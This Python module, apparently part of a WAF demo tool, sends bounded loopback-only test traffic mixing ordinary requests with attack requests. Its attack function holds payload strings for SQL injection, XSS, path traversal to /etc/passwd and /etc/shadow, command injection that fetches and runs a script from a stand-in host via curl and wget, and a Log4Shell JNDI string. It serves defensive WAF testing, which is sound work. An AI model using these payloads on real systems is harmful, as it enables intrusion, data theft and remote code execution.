"""``assetguard demo traffic``: mixed legitimate and attack requests through the WAF proxy, on loopback only.

Legitimate requests exercise the demo application the way its users do (user CRUD, markdown and
code posts, searches, ``/was`` health); attack requests are the kinds the baseline web ACL exists
for (SQL injection, XSS, path traversal, command injection, Log4Shell, scanners and paths outside
``/user``, ``/content`` and ``/was``). Load is bounded: at most ``rate × duration`` requests, at most
``MAX_RATE`` per second and ``MAX_DURATION`` seconds, and the target must be a loopback address
(load tests never leave the machine)::

    report = TrafficGenerator("http://127.0.0.1:8000", rate=10, duration=20, seed=1).run()
    report.attacks_blocked, report.legit_allowed, report.by_category["sqli"].blocked
"""

from __future__ import annotations

import ipaddress
import random
import threading
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import httpx

from assetguard.core.errors import ValidationError

MAX_RATE = 200.0
MAX_DURATION = 3600.0
BLOCK_STATUSES = frozenset({403, 429})  # the WAF's block responses (default 403; rate-based rules may say 429)
ERROR_STATUSES = frozenset({502, 503, 504})  # the proxy could not reach the application
LEGIT = ("users", "content", "search", "health")
ATTACKS = ("sqli", "xss", "path-traversal", "command-injection", "log4shell", "scanner", "outside-paths")
BROWSER_AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
]
FIRST_NAMES = ["Ada", "Grace", "Linus", "Margaret", "Ken", "Barbara", "Dennis", "Frances", "Alan", "Radia"]
LAST_NAMES = ["Lovelace", "Hopper", "Torvalds", "Hamilton", "Thompson", "Liskov", "Ritchie", "Allen", "Kay"]
TOPICS = ["release notes", "shoes", "garden", "travel tips", "recipes", "python", "deployment", "backups"]
MARKDOWN_POSTS = [
    ("Weekly notes", "# This week\n\n- shipped the *new* search\n- fixed two bugs\n\nThanks to **everyone**!"),
    ("Garden log", "## Tomatoes\n\nPlanted 6 seedlings. See [the guide](https://example.com/guide).\n\n> Water daily."),
    ("Trip plan", "1. Book the train\n2. Pack light\n3. Enjoy the view\n\n`checklist.md` is in the repo."),
]
CODE_POSTS = [
    ("Fibonacci", "python", "def fib(n):\n    a, b = 0, 1\n    for _ in range(n):\n        a, b = b, a + b\n    return a\n"),
    ("Debounce", "javascript", "function debounce(fn, ms) {\n  let t;\n  return (...a) => {\n"
                               "    clearTimeout(t);\n    t = setTimeout(() => fn(...a), ms);\n  };\n}\n"),
    ("Word count", "go", "func count(words []string) map[string]int {\n\tm := map[string]int{}\n"
                         "\tfor _, w := range words {\n\t\tm[w]++\n\t}\n\treturn m\n}\n"),
]


def loopback_target(url: str) -> str:
    """``url`` normalised (no trailing slash) when its host is a loopback address; else ValidationError."""
    parts = urlsplit(url)
    if parts.scheme not in ("http", "https") or not parts.hostname:
        raise ValidationError("the target must be an http(s) URL such as http://127.0.0.1:8000", where="--target")
    host = parts.hostname
    if host == "localhost":
        host = "127.0.0.1"
    try:
        loopback = ipaddress.ip_address(host).is_loopback
    except ValueError:
        loopback = False
    if not loopback:
        raise ValidationError(f"refusing to send load to {parts.hostname}: demo traffic only targets loopback "
                              "(127.0.0.1 or ::1)", where="--target")
    netloc = f"[{host}]" if ":" in host else host
    if parts.port:
        netloc += f":{parts.port}"
    return f"{parts.scheme}://{netloc}{parts.path.rstrip('/')}"


@dataclass
class CategoryCount:
    sent: int = 0
    allowed: int = 0
    blocked: int = 0
    errors: int = 0


@dataclass
class TrafficReport:
    by_category: dict[str, CategoryCount] = field(default_factory=dict)
    seconds: float = 0.0

    def _sum(self, attr: str, categories: tuple[str, ...] | None = None) -> int:
        return sum(getattr(c, attr) for name, c in self.by_category.items() if categories is None or name in categories)

    @property
    def sent(self) -> int:
        return self._sum("sent")

    @property
    def allowed(self) -> int:
        return self._sum("allowed")

    @property
    def blocked(self) -> int:
        return self._sum("blocked")

    @property
    def errors(self) -> int:
        return self._sum("errors")

    @property
    def attacks_sent(self) -> int:
        return self._sum("sent", ATTACKS)

    @property
    def attacks_blocked(self) -> int:
        return self._sum("blocked", ATTACKS)

    @property
    def legit_sent(self) -> int:
        return self._sum("sent", LEGIT)

    @property
    def legit_allowed(self) -> int:
        return self._sum("allowed", LEGIT)

    def as_dict(self) -> dict[str, Any]:
        return {"sent": self.sent, "allowed": self.allowed, "blocked": self.blocked, "errors": self.errors,
                "seconds": round(self.seconds, 2),
                "categories": {k: vars(v) for k, v in sorted(self.by_category.items())}}


@dataclass
class Request:
    category: str
    method: str
    path: str
    params: dict[str, str] | None = None
    json: Any = None
    headers: dict[str, str] = field(default_factory=dict)
    on_response: Callable[[httpx.Response], None] | None = None


class TrafficGenerator:
    """Sends at most ``rate × duration`` requests at ``rate`` per second, then stops by itself."""

    def __init__(self, target: str = "http://127.0.0.1:8000", *, rate: float = 10.0, duration: float = 20.0,
                 attack_share: float = 0.3, seed: int | None = None, timeout: float = 5.0) -> None:
        if not 0 < rate <= MAX_RATE:
            raise ValidationError(f"must be above 0 and at most {MAX_RATE:g} requests per second", where="--rate")
        if not 0 < duration <= MAX_DURATION:
            raise ValidationError(f"must be above 0 and at most {MAX_DURATION:g} seconds",
                                  where="--duration")
        if not 0 <= attack_share <= 1:
            raise ValidationError("must be between 0 and 1", where="--attack-share")
        self.target = loopback_target(target)
        self.rate = rate
        self.duration = duration
        self.attack_share = attack_share
        self.timeout = timeout
        self.rng = random.Random(seed)
        self.max_requests = max(1, int(rate * duration))
        self.users: list[int] = []
        self.posts: list[int] = []
        self.run_id = uuid.uuid4().hex[:6]
        self.counter = 0

    # -- the request mix -----------------------------------------------------------------------
    def _client_headers(self) -> dict[str, str]:
        # TEST-NET-1 addresses outside every shipped IP list, so legitimate clients are judged on content
        return {"User-Agent": self.rng.choice(BROWSER_AGENTS), "Accept": "application/json",
                "X-Forwarded-For": f"192.0.2.{self.rng.randrange(2, 120)}"}

    def next_request(self) -> Request:
        if self.rng.random() < self.attack_share:
            return self.attack(self.rng.choice(ATTACKS))
        return self.legitimate(self.rng.choices(LEGIT, weights=(3, 4, 2, 1))[0])

    def legitimate(self, category: str) -> Request:
        headers = self._client_headers()
        if category == "health":
            return Request(category, "GET", self.rng.choice(["/was/health", "/was"]), headers=headers)
        if category == "search":
            params = {"q": self.rng.choice(TOPICS)} if self.rng.random() < 0.7 else {"kind": "markdown"}
            return Request(category, "GET", "/content", params=params, headers=headers)
        if category == "users":
            return self._user_request(headers)
        return self._content_request(headers)

    def _user_request(self, headers: dict[str, str]) -> Request:
        roll = self.rng.random()
        if not self.users or roll < 0.4:
            self.counter += 1
            first, last = self.rng.choice(FIRST_NAMES), self.rng.choice(LAST_NAMES)
            body = {"name": f"{first} {last}", "email": f"{first}.{last}.{self.run_id}{self.counter}@example.com".lower()}
            return Request("users", "POST", "/user", json=body, headers=headers, on_response=self._remember_user)
        uid = self.rng.choice(self.users)
        if roll < 0.7:
            return Request("users", "GET", f"/user/{uid}", headers=headers)
        if roll < 0.85:
            return Request("users", "GET", "/user", params={"limit": "20"}, headers=headers)
        if roll < 0.95 or len(self.users) < 3:
            self.counter += 1
            return Request("users", "PUT", f"/user/{uid}", headers=headers,
                           json={"name": self.rng.choice(FIRST_NAMES),
                                 "email": f"user{uid}.{self.run_id}{self.counter}@example.org"})
        self.users.remove(uid)
        return Request("users", "DELETE", f"/user/{uid}", headers=headers)

    def _content_request(self, headers: dict[str, str]) -> Request:
        if self.posts and self.rng.random() < 0.4:
            return Request("content", "GET", f"/content/{self.rng.choice(self.posts)}", headers=headers)
        if not self.users:
            return self._user_request(headers) if self.rng.random() < 0.5 else \
                Request("content", "GET", "/content", params={"limit": "10"}, headers=headers)
        author = self.rng.choice(self.users)
        if self.rng.random() < 0.5:
            title, body = self.rng.choice(MARKDOWN_POSTS)
            item = {"author_id": author, "title": title, "kind": "markdown", "body": body}
        else:
            title, language, body = self.rng.choice(CODE_POSTS)
            item = {"author_id": author, "title": title, "kind": "code", "language": language, "body": body}
        return Request("content", "POST", "/content", json=item, headers=headers, on_response=self._remember_post)

    def attack(self, category: str) -> Request:
        headers = self._client_headers()
        # Mostly fresh addresses (blocked for what they send); some from the IP reputation list's range.
        known_bad = self.rng.random() < 0.2
        headers["X-Forwarded-For"] = f"203.0.113.{self.rng.randrange(2, 30)}" if known_bad else \
            f"192.0.2.{self.rng.randrange(200, 250)}"
        r = self.rng.randrange(1000)
        if category == "sqli":
            return self.rng.choice([
                Request(category, "GET", "/user", params={"id": "1' OR '1'='1"}, headers=headers),
                Request(category, "GET", "/content", params={"q": f"x' UNION SELECT password FROM users-- {r}"},
                        headers=headers),
                Request(category, "POST", "/user", headers=headers,
                        json={"name": "admin'; DROP TABLE users;--", "email": f"a{r}@example.com"}),
            ])
        if category == "xss":
            return self.rng.choice([
                Request(category, "GET", "/content", params={"q": "<script>alert(document.cookie)</script>"},
                        headers=headers),
                Request(category, "POST", "/content", headers=headers,
                        json={"author_id": 1, "title": "hi", "body": "<img src=x onerror=alert(1)>"}),
                Request(category, "GET", "/user", params={"next": "javascript:alert(1)//<svg/onload=alert(2)>"},
                        headers=headers),
            ])
        if category == "path-traversal":
            return self.rng.choice([
                Request(category, "GET", "/content", params={"file": "../../../../etc/passwd"}, headers=headers),
                Request(category, "GET", "/was/%2e%2e/%2e%2e/etc/shadow", headers=headers),
                Request(category, "GET", "/user", params={"avatar": "..\\..\\windows\\win.ini"}, headers=headers),
            ])
        if category == "command-injection":
            return self.rng.choice([
                Request(category, "GET", "/content", params={"q": "test; cat /etc/passwd"}, headers=headers),
                Request(category, "POST", "/content", headers=headers,
                        json={"author_id": 1, "title": "x", "body": "$(curl http://203.0.113.9/x.sh | sh)"}),
                Request(category, "GET", "/was", params={"host": "127.0.0.1 && wget http://203.0.113.9/bot"},
                        headers=headers),
            ])
        if category == "log4shell":
            payload = "${jndi:ldap://203.0.113.9:1389/Exploit}"
            return self.rng.choice([
                Request(category, "GET", "/was", headers={**headers, "User-Agent": payload}),
                Request(category, "GET", "/user", params={"q": payload}, headers=headers),
                Request(category, "GET", "/content", headers={**headers, "X-Api-Version": payload}),
            ])
        if category == "scanner":
            return self.rng.choice([
                Request(category, "GET", "/was", headers={**headers, "User-Agent": "sqlmap/1.8#stable (https://sqlmap.org)"}),
                Request(category, "GET", "/user", headers={**headers, "User-Agent": "Mozilla/5.00 (Nikto/2.5.0)"}),
                Request(category, "GET", "/content", headers={**headers, "User-Agent": ""}),
            ])
        return Request("outside-paths", "GET", self.rng.choice(
            ["/admin", "/.env", "/wp-login.php", "/.git/config", "/phpmyadmin/", "/actuator/env", "/server-status"]),
            headers=headers)

    def _remember_user(self, response: httpx.Response) -> None:
        if response.status_code == 201:
            self.users.append(int(response.json()["id"]))

    def _remember_post(self, response: httpx.Response) -> None:
        if response.status_code == 201:
            self.posts.append(int(response.json()["id"]))

    # -- sending -------------------------------------------------------------------------------
    def run(self, stop: threading.Event | None = None) -> TrafficReport:
        """Send the traffic; returns when ``duration`` or ``max_requests`` is reached, or ``stop`` is set."""
        report = TrafficReport({name: CategoryCount() for name in (*LEGIT, *ATTACKS)})
        started = time.monotonic()
        deadline = started + self.duration
        with httpx.Client(base_url=self.target, timeout=self.timeout, follow_redirects=False, trust_env=False) as client:
            for i in range(self.max_requests):
                due = started + i / self.rate
                now = time.monotonic()
                if now >= deadline or (stop is not None and stop.is_set()):
                    break
                if due > now:
                    if stop is not None:
                        if stop.wait(due - now):
                            break
                    else:
                        time.sleep(due - now)
                self.send(client, self.next_request(), report)
        report.seconds = time.monotonic() - started
        report.by_category = {k: v for k, v in report.by_category.items() if v.sent}
        return report

    def send(self, client: httpx.Client, request: Request, report: TrafficReport) -> None:
        count = report.by_category.setdefault(request.category, CategoryCount())
        count.sent += 1
        try:
            response = client.request(request.method, request.path, params=request.params, json=request.json,
                                      headers=request.headers)
        except httpx.HTTPError:
            count.errors += 1
            return
        if response.status_code in BLOCK_STATUSES:
            count.blocked += 1
        elif response.status_code in ERROR_STATUSES:
            count.errors += 1
        else:
            count.allowed += 1
            if request.on_response is not None:
                try:
                    request.on_response(response)
                except (ValueError, KeyError, TypeError):
                    pass  # an unexpected body only means we do not reuse this id
